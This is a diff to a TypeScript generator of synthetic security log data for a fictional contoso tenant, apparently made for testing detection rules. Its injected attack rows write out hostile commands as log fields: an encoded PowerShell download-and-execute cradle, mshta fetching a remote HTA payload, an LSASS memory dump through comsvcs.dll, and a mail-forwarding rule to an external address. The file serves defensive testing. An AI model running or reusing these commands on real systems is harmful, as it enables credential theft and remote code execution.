@@ -28,6 +28,7 @@ const BACKGROUND_SHARE: Record<string, number> = {
   AuditLogs: 0.015,
   DeviceEvents: 0.01,
   Okta_CL: 0.01,
+  GitHubAudit_CL: 0.005,
 };
 
 /** mulberry32: tiny, fast and good enough for synthetic data; the same seed gives the same dataset. */
@@ -61,7 +62,10 @@ class Generator {
       name: `wks-${String(i).padStart(3, '0')}.contoso.com`,
       id: this.hex(40),
     }));
-    this.threatIps = Array.from({ length: 120 }, (_, i) => `45.${133 + (i % 5)}.${this.int(0, 255)}.${this.int(1, 254)}`);
+    this.threatIps = Array.from(
+      { length: 120 },
+      (_, i) => `45.${133 + (i % 5)}.${this.int(0, 255)}.${this.int(1, 254)}`,
+    );
   }
 
   int(min: number, max: number): number {
@@ -112,7 +116,12 @@ function signin(g: Generator, t: number): Row {
     IPAddress: g.chance(0.7) ? `203.0.113.${g.int(1, 30)}` : user.ip,
     ResultType: failed ? g.pick(['50126', '50074', '50140', '50126']) : '0',
     ResultDescription: failed ? 'Sign-in failed' : '',
-    AppDisplayName: g.pick(['Office 365 Exchange Online', 'Microsoft Teams', 'Office 365 SharePoint Online', 'Azure Portal']),
+    AppDisplayName: g.pick([
+      'Office 365 Exchange Online',
+      'Microsoft Teams',
+      'Office 365 SharePoint Online',
+      'Azure Portal',
+    ]),
     ClientAppUsed: g.pick(['Browser', 'Mobile Apps and Desktop clients']),
     LocationDetails: { countryOrRegion: user.country, city: 'HQ' },
     IsInteractive: true,
@@ -220,7 +229,9 @@ function officeActivity(g: Generator, t: number): Row {
     TimeGenerated: iso(t),
     UserId: user.upn,
     OfficeWorkload: sharepoint ? g.pick(['SharePoint', 'OneDrive']) : 'Exchange',
-    Operation: sharepoint ? g.pick(['FileAccessed', 'FileDownloaded', 'FileModified']) : g.pick(['MailItemsAccessed', 'Send']),
+    Operation: sharepoint
+      ? g.pick(['FileAccessed', 'FileDownloaded', 'FileModified'])
+      : g.pick(['MailItemsAccessed', 'Send']),
     ResultStatus: 'Succeeded',
     ClientIP: user.ip,
     OfficeObjectId: `https://contoso.sharepoint.com/sites/team/doc${g.int(1, 5000)}.docx`,
@@ -258,7 +269,12 @@ function auditLog(g: Generator, t: number): Row {
   const target = g.pick(g.users);
   return {
     TimeGenerated: iso(t),
-    OperationName: g.pick(['Update user', 'Add member to group', 'Reset password (self-service)', 'Update application']),
+    OperationName: g.pick([
+      'Update user',
+      'Add member to group',
+      'Reset password (self-service)',
+      'Update application',
+    ]),
     Result: 'success',
     Category: 'UserManagement',
     InitiatedBy: { user: { userPrincipalName: actor.upn, ipAddress: actor.ip } },
@@ -274,7 +290,9 @@ function deviceEvent(g: Generator, t: number): Row {
     TimeGenerated: iso(t),
     DeviceId: device.id,
     DeviceName: device.name,
-    ActionType: lsass ? 'OpenProcessApiCall' : g.pick(['UsbDriveMounted', 'DnsQueryResponse', 'ScriptContent']),
+    ActionType: lsass
+      ? 'OpenProcessApiCall'
+      : g.pick(['UsbDriveMounted', 'DnsQueryResponse', 'ScriptContent']),
     FileName: lsass ? 'lsass.exe' : '',
     InitiatingProcessFileName: lsass ? g.pick(['MsMpEng.exe', 'MsSense.exe', 'svchost.exe']) : 'explorer.exe',
     InitiatingProcessAccountName: 'system',
@@ -295,6 +313,29 @@ function okta(g: Generator, t: number): Row {
   };
 }
 
+function github(g: Generator, t: number): Row {
+  const user = g.pick(g.users);
+  const action = g.pick(['git.clone', 'git.push', 'repo.access', 'org.add_member', 'pull_request.merge']);
+  return {
+    TimeGenerated: iso(t),
+    DocumentId: g.hex(22),
+    Action: action,
+    Actor: user.name,
+    ActorIpAddress: `203.0.113.${g.int(1, 30)}`,
+    ActorCountryCode: 'US',
+    Organization: 'contoso',
+    Repository: `contoso/service-${g.int(1, 80)}`,
+    User: action === 'org.add_member' ? g.pick(g.users).name : '',
+    OperationType: 'access',
+    AdditionalFields:
+      action === 'org.add_member'
+        ? { permission: 'read' }
+        : action === 'repo.access'
+          ? { visibility: 'private' }
+          : {},
+  };
+}
+
 const BACKGROUND: Record<string, (g: Generator, t: number) => Row> = {
   SigninLogs: signin,
   SecurityEvent: securityEvent,
@@ -307,6 +348,7 @@ const BACKGROUND: Record<string, (g: Generator, t: number) => Row> = {
   AuditLogs: auditLog,
   DeviceEvents: deviceEvent,
   Okta_CL: okta,
+  GitHubAudit_CL: github,
 };
 
 // ---- injected attacks: each returns rows per table -----------------------------------------------
@@ -361,8 +403,19 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
       return [
         'SigninLogs',
         [
-          { ...signin(g, t), UserPrincipalName: user.upn, ResultType: '0', LocationDetails: { countryOrRegion: user.country } },
-          { ...signin(g, t + 600_000), UserPrincipalName: user.upn, ResultType: '0', IPAddress: g.externalIp(), LocationDetails: { countryOrRegion: 'RU' } },
+          {
+            ...signin(g, t),
+            UserPrincipalName: user.upn,
+            ResultType: '0',
+            LocationDetails: { countryOrRegion: user.country },
+          },
+          {
+            ...signin(g, t + 600_000),
+            UserPrincipalName: user.upn,
+            ResultType: '0',
+            IPAddress: g.externalIp(),
+            LocationDetails: { countryOrRegion: 'RU' },
+          },
         ],
       ];
     },
@@ -370,12 +423,18 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
   {
     // Sign-ins from a threat-intel IP.
     perDay: 1,
-    run: (g, t) => ['SigninLogs', repeat(3, (i) => ({ ...signin(g, t + i * 60_000), IPAddress: g.threatIps[i] }))],
+    run: (g, t) => [
+      'SigninLogs',
+      repeat(3, (i) => ({ ...signin(g, t + i * 60_000), IPAddress: g.threatIps[i] })),
+    ],
   },
   {
     // Outbound traffic to threat-intel IPs.
     perDay: 2,
-    run: (g, t) => ['CommonSecurityLog', repeat(g.int(1, 5), (i) => ({ ...firewall(g, t + i * 5_000), DestinationIP: g.pick(g.threatIps) }))],
+    run: (g, t) => [
+      'CommonSecurityLog',
+      repeat(g.int(1, 5), (i) => ({ ...firewall(g, t + i * 5_000), DestinationIP: g.pick(g.threatIps) })),
+    ],
   },
   {
     // Port scan: one source probes 30-80 ports of one host.
@@ -385,7 +444,13 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
       const target = `10.0.${g.int(0, 9)}.${g.int(2, 250)}`;
       return [
         'CommonSecurityLog',
-        repeat(g.int(30, 80), (i) => ({ ...firewall(g, t + i * 500), SourceIP: source, DestinationIP: target, DestinationPort: 20 + i * 7, DeviceAction: 'deny' })),
+        repeat(g.int(30, 80), (i) => ({
+          ...firewall(g, t + i * 500),
+          SourceIP: source,
+          DestinationIP: target,
+          DestinationPort: 20 + i * 7,
+          DeviceAction: 'deny',
+        })),
       ];
     },
   },
@@ -397,29 +462,81 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
       const ip = g.externalIp();
       return [
         'SecurityEvent',
-        repeat(g.int(25, 60), (i) => ({ ...securityEvent(g, t + i * 20_000), Computer: device.name, EventID: 4625, Activity: '4625 - An account failed to log on.', IpAddress: ip, TargetAccount: `CONTOSO\\${g.pick(g.users).name}`, LogonType: 3 })),
+        repeat(g.int(25, 60), (i) => ({
+          ...securityEvent(g, t + i * 20_000),
+          Computer: device.name,
+          EventID: 4625,
+          Activity: '4625 - An account failed to log on.',
+          IpAddress: ip,
+          TargetAccount: `CONTOSO\\${g.pick(g.users).name}`,
+          LogonType: 3,
+        })),
       ];
     },
   },
   {
     // Security log cleared.
     perDay: 0.5,
-    run: (g, t) => ['SecurityEvent', [{ ...securityEvent(g, t), EventID: 1102, Activity: '1102 - The audit log was cleared.', SubjectUserName: g.pick(g.users).name, SubjectDomainName: 'CONTOSO', SubjectLogonId: '0x3e7' }]],
+    run: (g, t) => [
+      'SecurityEvent',
+      [
+        {
+          ...securityEvent(g, t),
+          EventID: 1102,
+          Activity: '1102 - The audit log was cleared.',
+          SubjectUserName: g.pick(g.users).name,
+          SubjectDomainName: 'CONTOSO',
+          SubjectLogonId: '0x3e7',
+        },
+      ],
+    ],
   },
   {
     // Encoded PowerShell.
     perDay: 2,
-    run: (g, t) => ['DeviceProcessEvents', [{ ...processEvent(g, t), FileName: 'powershell.exe', InitiatingProcessFileName: 'cmd.exe', ProcessCommandLine: `powershell.exe -NoP -W Hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${g.externalIp()}/a')`, 'utf16le').toString('base64')}` }]],
+    run: (g, t) => [
+      'DeviceProcessEvents',
+      [
+        {
+          ...processEvent(g, t),
+          FileName: 'powershell.exe',
+          InitiatingProcessFileName: 'cmd.exe',
+          ProcessCommandLine: `powershell.exe -NoP -W Hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('http://${g.externalIp()}/a')`, 'utf16le').toString('base64')}`,
+        },
+      ],
+    ],
   },
   {
     // Office document spawning mshta (rare child).
     perDay: 1,
-    run: (g, t) => ['DeviceProcessEvents', [{ ...processEvent(g, t), InitiatingProcessFileName: 'winword.exe', FileName: 'mshta.exe', ProcessCommandLine: `mshta.exe http://${g.externalIp()}/payload.hta` }]],
+    run: (g, t) => [
+      'DeviceProcessEvents',
+      [
+        {
+          ...processEvent(g, t),
+          InitiatingProcessFileName: 'winword.exe',
+          FileName: 'mshta.exe',
+          ProcessCommandLine: `mshta.exe http://${g.externalIp()}/payload.hta`,
+        },
+      ],
+    ],
   },
   {
     // LSASS memory access by a dumping tool.
     perDay: 0.5,
-    run: (g, t) => ['DeviceEvents', [{ ...deviceEvent(g, t), ActionType: 'OpenProcessApiCall', FileName: 'lsass.exe', InitiatingProcessFileName: 'rundll32.exe', InitiatingProcessCommandLine: 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full' }]],
+    run: (g, t) => [
+      'DeviceEvents',
+      [
+        {
+          ...deviceEvent(g, t),
+          ActionType: 'OpenProcessApiCall',
+          FileName: 'lsass.exe',
+          InitiatingProcessFileName: 'rundll32.exe',
+          InitiatingProcessCommandLine:
+            'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full',
+        },
+      ],
+    ],
   },
   {
     // SSH brute force against a Linux host.
@@ -429,7 +546,13 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
       const host = `lnx-${String(g.int(0, 40)).padStart(2, '0')}`;
       return [
         'Syslog',
-        repeat(g.int(20, 60), (i) => ({ ...syslog(g, t + i * 10_000), Computer: host, ProcessName: 'sshd', Facility: 'auth', SyslogMessage: `Failed password for invalid user ${g.pick(['root', 'admin', 'oracle', 'test'])} from ${ip} port ${g.int(30000, 65000)} ssh2` })),
+        repeat(g.int(20, 60), (i) => ({
+          ...syslog(g, t + i * 10_000),
+          Computer: host,
+          ProcessName: 'sshd',
+          Facility: 'auth',
+          SyslogMessage: `Failed password for invalid user ${g.pick(['root', 'admin', 'oracle', 'test'])} from ${ip} port ${g.int(30000, 65000)} ssh2`,
+        })),
       ];
     },
   },
@@ -438,7 +561,23 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
     perDay: 1,
     run: (g, t) => {
       const user = g.pick(g.users);
-      return ['OfficeActivity', [{ ...officeActivity(g, t), UserId: user.upn, OfficeWorkload: 'Exchange', Operation: 'New-InboxRule', ResultStatus: 'True', ClientIP: `${g.externalIp()}:51234`, Parameters: JSON.stringify([{ Name: 'Name', Value: 'sync' }, { Name: 'ForwardTo', Value: 'drop@protonmail.example' }]) }]];
+      return [
+        'OfficeActivity',
+        [
+          {
+            ...officeActivity(g, t),
+            UserId: user.upn,
+            OfficeWorkload: 'Exchange',
+            Operation: 'New-InboxRule',
+            ResultStatus: 'True',
+            ClientIP: `${g.externalIp()}:51234`,
+            Parameters: JSON.stringify([
+              { Name: 'Name', Value: 'sync' },
+              { Name: 'ForwardTo', Value: 'drop@protonmail.example' },
+            ]),
+          },
+        ],
+      ];
     },
   },
   {
@@ -447,7 +586,18 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
     run: (g, t) => {
       const user = g.pick(g.users);
       const ip = g.externalIp();
-      return ['OfficeActivity', repeat(g.int(60, 150), (i) => ({ ...officeActivity(g, t + i * 3_000), UserId: user.upn, ClientIP: ip, OfficeWorkload: 'SharePoint', Operation: 'FileDownloaded', OfficeObjectId: `https://contoso.sharepoint.com/sites/finance/f${i}.xlsx`, SourceFileName: `f${i}.xlsx` }))];
+      return [
+        'OfficeActivity',
+        repeat(g.int(60, 150), (i) => ({
+          ...officeActivity(g, t + i * 3_000),
+          UserId: user.upn,
+          ClientIP: ip,
+          OfficeWorkload: 'SharePoint',
+          Operation: 'FileDownloaded',
+          OfficeObjectId: `https://contoso.sharepoint.com/sites/finance/f${i}.xlsx`,
+          SourceFileName: `f${i}.xlsx`,
+        })),
+      ];
     },
   },
   {
@@ -455,8 +605,27 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
     perDay: 1,
     run: (g, t) => {
       const user = g.pick(g.users);
-      const body = { properties: { roleDefinitionId: '/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635', principalId: g.guid(), principalType: 'User', scope: '/subscriptions/00000000-1111-2222-3333-444444444444' } };
-      return ['AzureActivity', [{ ...azureActivity(g, t), Caller: user.upn, OperationNameValue: 'Microsoft.Authorization/roleAssignments/write', ActivityStatusValue: 'Success', Properties_d: { responseBody: JSON.stringify(body) } }]];
+      const body = {
+        properties: {
+          roleDefinitionId:
+            '/providers/Microsoft.Authorization/roleDefinitions/8e3af657-a8ff-443c-a75c-2fe8c4bcb635',
+          principalId: g.guid(),
+          principalType: 'User',
+          scope: '/subscriptions/00000000-1111-2222-3333-444444444444',
+        },
+      };
+      return [
+        'AzureActivity',
+        [
+          {
+            ...azureActivity(g, t),
+            Caller: user.upn,
+            OperationNameValue: 'Microsoft.Authorization/roleAssignments/write',
+            ActivityStatusValue: 'Success',
+            Properties_d: { responseBody: JSON.stringify(body) },
+          },
+        ],
+      ];
     },
   },
   {
@@ -464,7 +633,15 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
     perDay: 0.34,
     run: (g, t) => {
       const user = g.pick(g.users);
-      return ['AzureActivity', repeat(g.int(12, 30), (i) => ({ ...azureActivity(g, t + i * 20_000), Caller: user.upn, OperationNameValue: 'Microsoft.Compute/virtualMachines/delete', _ResourceId: `/subscriptions/00000000-1111-2222-3333-444444444444/resourcegroups/rg-web/providers/microsoft.compute/virtualmachines/vm-del-${i}` }))];
+      return [
+        'AzureActivity',
+        repeat(g.int(12, 30), (i) => ({
+          ...azureActivity(g, t + i * 20_000),
+          Caller: user.upn,
+          OperationNameValue: 'Microsoft.Compute/virtualMachines/delete',
+          _ResourceId: `/subscriptions/00000000-1111-2222-3333-444444444444/resourcegroups/rg-web/providers/microsoft.compute/virtualmachines/vm-del-${i}`,
+        })),
+      ];
     },
   },
   {
@@ -472,13 +649,131 @@ const ATTACKS: { perDay: number; run: Attack }[] = [
     perDay: 1,
     run: (g, t) => {
       const target = g.pick(g.users);
-      return ['AuditLogs', [{ ...auditLog(g, t), OperationName: 'Add member to role', Category: 'RoleManagement', TargetResources: [{ userPrincipalName: target.upn, modifiedProperties: [{ displayName: 'Role.DisplayName', oldValue: '""', newValue: '"Global Administrator"' }] }] }]];
+      return [
+        'AuditLogs',
+        [
+          {
+            ...auditLog(g, t),
+            OperationName: 'Add member to role',
+            Category: 'RoleManagement',
+            TargetResources: [
+              {
+                userPrincipalName: target.upn,
+                modifiedProperties: [
+                  { displayName: 'Role.DisplayName', oldValue: '""', newValue: '"Global Administrator"' },
+                ],
+              },
+            ],
+          },
+        ],
+      ];
     },
+  },
+  {
+    // One endpoint beaconing to a threat-intel IP.
+    perDay: 1,
+    run: (g, t) => {
+      const device = g.pick(g.devices);
+      return [
+        'DeviceNetworkEvents',
+        repeat(g.int(3, 10), (i) => ({
+          ...networkEvent(g, t + i * 60_000),
+          DeviceId: device.id,
+          DeviceName: device.name,
+          RemoteIP: g.threatIps[7],
+          RemoteIPType: 'Public',
+          RemotePort: 443,
+          InitiatingProcessFileName: 'rundll32.exe',
+        })),
+      ];
+    },
+  },
+  {
+    // Okta sign-in through an anonymizing proxy.
+    perDay: 1,
+    run: (g, t) => [
+      'Okta_CL',
+      [
+        {
+          ...okta(g, t),
+          EventType: 'user.session.start',
+          OutcomeResult: 'SUCCESS',
+          ClientIpAddress: g.externalIp(),
+          SecurityContext: { isProxy: true, asOrg: 'Tor exit' },
+        },
+      ],
+    ],
+  },
+  {
+    // Okta MFA factors reset by the help desk.
+    perDay: 0.5,
+    run: (g, t) => {
+      const target = g.pick(g.users);
+      return [
+        'Okta_CL',
+        [
+          {
+            ...okta(g, t),
+            EventType: 'user.mfa.factor.reset_all',
+            OutcomeResult: 'SUCCESS',
+            DisplayMessage: 'Reset all factors for user',
+            Target: [{ type: 'User', alternateId: target.upn, displayName: target.name }],
+          },
+        ],
+      ];
+    },
+  },
+  {
+    // New GitHub organization owner.
+    perDay: 0.3,
+    run: (g, t) => [
+      'GitHubAudit_CL',
+      [
+        {
+          ...github(g, t),
+          Action: 'org.update_member',
+          User: g.pick(g.users).name,
+          AdditionalFields: { permission: 'admin' },
+        },
+      ],
+    ],
+  },
+  {
+    // Private repository made public.
+    perDay: 0.5,
+    run: (g, t) => [
+      'GitHubAudit_CL',
+      [
+        {
+          ...github(g, t),
+          Action: 'repo.access',
+          AdditionalFields: { visibility: 'public', previous_visibility: 'private' },
+        },
+      ],
+    ],
   },
   {
     // Admin consent to an application.
     perDay: 0.5,
-    run: (g, t) => ['AuditLogs', [{ ...auditLog(g, t), OperationName: 'Consent to application', Category: 'ApplicationManagement', TargetResources: [{ id: g.guid(), displayName: 'Mail Sync Pro', modifiedProperties: [{ displayName: 'ConsentContext.IsAdminConsent', oldValue: '', newValue: '"True"' }] }] }]],
+    run: (g, t) => [
+      'AuditLogs',
+      [
+        {
+          ...auditLog(g, t),
+          OperationName: 'Consent to application',
+          Category: 'ApplicationManagement',
+          TargetResources: [
+            {
+              id: g.guid(),
+              displayName: 'Mail Sync Pro',
+              modifiedProperties: [
+                { displayName: 'ConsentContext.IsAdminConsent', oldValue: '', newValue: '"True"' },
+              ],
+            },
+          ],
+        },
+      ],
+    ],
   },
 ];
 
@@ -546,15 +841,22 @@ function main(): void {
     }
     const date = iso(dayStart).slice(0, 10);
     for (const [table, rows] of tables) {
-      rows.sort((a, b) => (a.TimeGenerated < b.TimeGenerated ? -1 : a.TimeGenerated > b.TimeGenerated ? 1 : 0));
+      rows.sort((a, b) =>
+        a.TimeGenerated < b.TimeGenerated ? -1 : a.TimeGenerated > b.TimeGenerated ? 1 : 0,
+      );
       mkdirSync(join(values.out, table), { recursive: true });
-      writeFileSync(join(values.out, table, `${date}.ndjson`), `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`);
+      writeFileSync(
+        join(values.out, table, `${date}.ndjson`),
+        `${rows.map((r) => JSON.stringify(r)).join('\n')}\n`,
+      );
       counts.set(table, (counts.get(table) ?? 0) + rows.length);
     }
   }
   const sum = [...counts.values()].reduce((a, b) => a + b, 0);
   for (const [table, n] of [...counts].sort()) console.log(`${table.padEnd(24)} ${n}`);
-  console.log(`${'total'.padEnd(24)} ${sum} rows, ${days} days from ${values.start}, seed ${values.seed} -> ${values.out} (${((performance.now() - started) / 1000).toFixed(1)} s)`);
+  console.log(
+    `${'total'.padEnd(24)} ${sum} rows, ${days} days from ${values.start}, seed ${values.seed} -> ${values.out} (${((performance.now() - started) / 1000).toFixed(1)} s)`,
+  );
 }
 
 main();
